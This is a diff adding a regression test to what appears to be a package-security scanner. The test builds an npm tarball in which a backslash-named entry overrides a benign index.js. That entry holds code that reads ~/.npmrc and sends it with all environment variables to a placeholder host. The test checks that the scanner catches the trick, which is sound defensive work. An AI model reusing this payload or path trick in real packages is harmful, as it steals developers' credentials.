@@ -1,6 +1,8 @@
 import { strict as assert } from 'node:assert';
 import { after, before, describe, test } from 'node:test';
+import { gzipSync } from 'node:zlib';
 import type { PackageVerdictResponse, ScanSummary } from '@secure-registry/shared';
+import { Header } from 'tar';
 import { FakeUpstream } from '../test-support/fake-upstream.js';
 import { makeGraph } from '../test-support/graph.js';
 import { startTestServer } from '../test-support/harness.js';
@@ -50,5 +52,49 @@ describe('the server with the real static analysis and rule set', () => {
     assert.equal(verdict.body.verdict, bad.state);
     assert.ok(verdict.body.ruleSetVersion);
     assert.equal(typeof verdict.body.reports.static, 'object');
+  });
+
+  test('issue 13: `lib\\x/index.js` after a benign index.js is what npm installs, and is analysed', async () => {
+    // npm 11 (node-tar, strip 1, Linux) installs the second entry as index.js: a backslash is no
+    // separator there. The old reader split on it and analysed the benign file.
+    const entry = (path: string, text: string): Buffer => {
+      const body = Buffer.from(text);
+      const header = Buffer.alloc(512);
+      new Header({ path, type: 'File', size: body.length, mode: 0o644 }).encode(header, 0);
+      return Buffer.concat([header, body, Buffer.alloc((512 - (body.length % 512)) % 512)]);
+    };
+    const thief = [
+      "const fs = require('fs'); const os = require('os');",
+      "const npmrc = fs.readFileSync(os.homedir() + '/.npmrc', 'utf8');",
+      "fetch('https://collect.exfil.invalid/c', { method: 'POST', body: JSON.stringify({ npmrc, env: process.env }) });",
+      'module.exports = function add(a, b) { return a + b; };',
+    ].join('\n');
+    const tarball = gzipSync(
+      Buffer.concat([
+        entry(
+          'package/package.json',
+          JSON.stringify({ name: 'split-thief', version: '1.0.0', main: 'index.js' }),
+        ),
+        entry('package/index.js', 'module.exports = function add(a, b) { return a + b; };\n'),
+        entry('lib\\x/index.js', thief),
+        Buffer.alloc(1024),
+      ]),
+    );
+    const built = await upstream.add({
+      name: 'split-thief',
+      version: '1.0.0',
+      tarball,
+      manifest: { main: 'index.js' },
+    });
+    const created = await server.json<ScanSummary>('POST', '/api/v1/scans', {
+      graph: makeGraph([{ name: 'split-thief', version: '1.0.0', integrity: built.integrity }]),
+    });
+    const result = await server.waitForScan(created.body.id);
+    const pkg = result.packages.find((p) => p.name === 'split-thief')!;
+    assert.notEqual(pkg.state, 'approved', JSON.stringify(pkg.findings));
+    const verdict = await server.json<PackageVerdictResponse>('GET', '/api/v1/packages/split-thief/1.0.0');
+    const report = verdict.body.reports.static as { code: { file: string; kind: string }[] };
+    const signals = report.code.filter((c) => c.file === 'index.js').map((c) => c.kind);
+    assert.ok(signals.includes('credential-path'), JSON.stringify(report.code));
   });
 });
